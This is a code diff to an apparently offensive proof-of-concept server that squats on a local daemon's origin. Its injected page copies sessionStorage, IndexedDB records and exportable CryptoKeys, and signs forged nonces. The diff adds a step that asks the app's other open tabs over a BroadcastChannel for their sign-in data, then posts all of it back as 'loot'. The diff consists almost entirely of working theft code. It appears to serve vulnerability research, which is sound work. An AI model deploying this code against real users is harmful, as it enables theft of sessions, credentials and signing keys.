@@ -3,7 +3,8 @@
 // answer (the real one needs daemon.key); every request is reported; any other page runs in the
 // daemon's origin now, so it copies all it can read of the tab's storage (sessionStorage, and every
 // IndexedDB record, each CryptoKey tried for export in every format) and what the keys can do while it
-// is loaded (sign made-up nonces: the daemon is away, so none of its own exist), and posts it back.
+// is loaded (sign made-up nonces: the daemon is away, so none of its own exist), asks the origin's open
+// tabs for their sign-in as a new tab of the page does, and posts it all back.
 // Node builtins only.
 import { randomBytes } from "node:crypto";
 import { createServer } from "node:http";
@@ -49,6 +50,15 @@ const done = (request) => new Promise((ok, ko) => { request.onsuccess = () => ok
       } catch {}
     }
   }
+  // As a new tab of the origin asks its open tabs for their sign-in (ui/src/tab-sign-in.ts): all it hears.
+  loot.broadcast = [];
+  try {
+    const channel = new BroadcastChannel("floot-sign-in");
+    channel.onmessage = (event) => loot.broadcast.push(event.data);
+    channel.postMessage({ type: "ask", id: "squatter" });
+    await new Promise((resolve) => setTimeout(resolve, 5000));
+    channel.close();
+  } catch (error) { loot.broadcastError = String(error); }
   await fetch("/report", { method: "POST", body: JSON.stringify(loot) });
 })();
 </script></body></html>`;
